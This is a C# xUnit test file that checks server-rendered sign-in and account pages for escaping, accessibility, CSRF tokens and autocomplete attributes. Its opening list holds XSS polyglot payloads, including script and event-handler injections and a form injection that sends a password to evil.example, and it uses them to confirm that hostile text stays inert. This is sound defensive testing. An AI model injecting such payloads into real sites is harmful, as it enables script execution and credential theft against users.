using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Poolhouse.Server.Dev.Playground;
using RazorSlices;
using Xunit;

namespace Poolhouse.Server.Tests.Pages;

public class PageTests
{
    static readonly string[] Polyglots =
    [
        "\"><script>alert(1)</script>",
        "'\"></title></textarea></style><svg onload=alert(1)>",
        "x\" onfocus=\"alert(1)\" autofocus=\"",
        "x' onmouseover='alert(1)",
        "`><img src=x onerror=alert(1)>",
        "</main><form action=//evil.example><input name=password>",
        "<!--<base href=//evil.example>-->",
        "&quot;&gt;<b>{{7*7}}</b>",
        "\u2028\u202e<\u0000script>",
    ];

    public static TheoryData<string, string> EveryPageWithEveryPolyglot =>
        [.. from page in SamplePages.All.Keys from polyglot in Polyglots select (page, polyglot)];

    public static TheoryData<string> EveryPage => [.. SamplePages.All.Keys];

    [Fact]
    public void No_page_is_left_out()
    {
        var pages = typeof(Poolhouse.Server.Login.SignIn.SignInPage).Assembly.GetTypes()
            .Where(type => type.GetInterfaces().Any(@interface => @interface.Name.StartsWith("IRazorSliceProxy", StringComparison.Ordinal)) && type.Name.EndsWith("Page", StringComparison.Ordinal))
            .Select(type => type.Name)
            // The playground shows nothing that a caller sends and lives by its scripts: tests/Browser holds it.
            .Except([nameof(PlaygroundPage)]);

        Assert.Equal(SamplePages.All.Keys.Order(), pages.Order());
    }

    // The skeleton is every tag with the names of its attributes: whatever breaks out of its place changes it.
    [Theory, MemberData(nameof(EveryPageWithEveryPolyglot))]
    public async Task Hostile_text_stays_text(string page, string polyglot)
    {
        var harmless = await Render(page, "harmless");
        var hostile = await Render(page, polyglot);

        Assert.Equal(Skeleton(harmless), Skeleton(hostile));
        Assert.Equal(Occurrences(harmless, "harmless"), Occurrences(hostile, Parsed(polyglot)));
    }

    [Theory, MemberData(nameof(EveryPage))]
    public async Task A_page_has_a_language_a_title_one_main_and_one_heading(string page)
    {
        var document = await Render(page, "Lido");

        Assert.Equal("en", document.DocumentElement.GetAttribute("lang"));
        Assert.NotEmpty(document.Title!);
        Assert.Single(document.QuerySelectorAll("main"));
        Assert.NotEmpty(Assert.Single(document.QuerySelectorAll("h1")).TextContent.Trim());
        Assert.Empty(document.QuerySelectorAll("script, style, [style], [autofocus], [tabindex]"));
    }

    [Theory, MemberData(nameof(EveryPage))]
    public async Task Every_input_has_a_label_and_every_reference_its_target(string page)
    {
        var document = await Render(page, "Lido");

        var ids = document.QuerySelectorAll("[id]").Select(element => element.Id!).ToList();
        Assert.Equal(ids.Distinct(), ids);
        foreach (var input in document.QuerySelectorAll("input:not([type=hidden])"))
        {
            var label = Assert.Single(document.QuerySelectorAll("label"), label => label.GetAttribute("for") == input.Id);
            Assert.NotEmpty(label.TextContent.Trim());
            Assert.NotEmpty(input.GetAttribute("autocomplete")!);
        }
        var described = document.QuerySelectorAll("[aria-describedby]").SelectMany(element => element.GetAttribute("aria-describedby")!.Split(' '));
        Assert.All(described, id => Assert.Contains(id, ids));
    }

    [Theory, MemberData(nameof(EveryPage))]
    public async Task A_form_that_changes_something_is_posted_with_its_token(string page)
    {
        var document = await Render(page, "Lido");

        foreach (var form in document.QuerySelectorAll("form[method=post]"))
            Assert.Equal("Lido", Assert.Single(form.QuerySelectorAll("input[name=_csrf]")).GetAttribute("value"));
        Assert.All(document.QuerySelectorAll("form:not([method=post])"), form => Assert.Equal("search", form.GetAttribute("role")));
    }

    [Fact]
    public async Task A_problem_is_announced_and_its_field_is_marked()
    {
        var document = await Render("SignInPage", "Lido");

        Assert.Equal("Lido", document.QuerySelector("[role=alert]")!.TextContent.Trim());
        Assert.StartsWith("Error: ", document.Title, StringComparison.Ordinal);
        var marked = Assert.Single(document.QuerySelectorAll("[aria-invalid=true]"));
        Assert.Equal(("username", "problem"), (marked.GetAttribute("name"), marked.GetAttribute("aria-describedby")));
    }

    [Theory]
    [InlineData("SignInPage", "username=username password=current-password")]
    [InlineData("SignUpPage", "username=username attribute.email=email password=new-password")]
    [InlineData("ConfirmPage", "username=username code=one-time-code")]
    [InlineData("ResetPasswordPage", "username=username code=one-time-code new_password=new-password")]
    [InlineData("FirstFactorPage", "username=username password=current-password")]
    [InlineData("MfaPage", "code=one-time-code")]
    [InlineData("MfaSetupPage", "code=one-time-code attribute.email=email")]
    [InlineData("NewPasswordPage", "username=username attribute.email=email new_password=new-password")]
    public async Task Password_managers_recognise_the_fields(string page, string expected)
    {
        var document = await Render(page, "Lido");

        var fields = document.QuerySelectorAll("input:not([type=hidden]):not([autocomplete=off])")
            .Select(input => $"{input.GetAttribute("name")}={input.GetAttribute("autocomplete")}");
        Assert.Equal(expected, string.Join(' ', fields));
    }

    static async Task<IDocument> Render(string page, string text)
    {
        using var slice = SamplePages.All[page](text);
        return new HtmlParser().ParseDocument(await slice.RenderAsync());
    }

    static IEnumerable<string> Skeleton(IDocument document) =>
        document.All.Select(element => $"{element.LocalName} {string.Join(' ', element.Attributes.Select(attribute => attribute.Name))}");

    static int Occurrences(IDocument document, string text) =>
        document.All.SelectMany(element => element.Attributes).Count(attribute => attribute.Value.Contains(text, StringComparison.Ordinal))
        + document.Descendants<IText>().Count(node => node.Data.Contains(text, StringComparison.Ordinal));

    // HTML has no way to say U+0000: the parser reads the replacement character.
    static string Parsed(string text) => text.Replace('\0', '\ufffd');
}
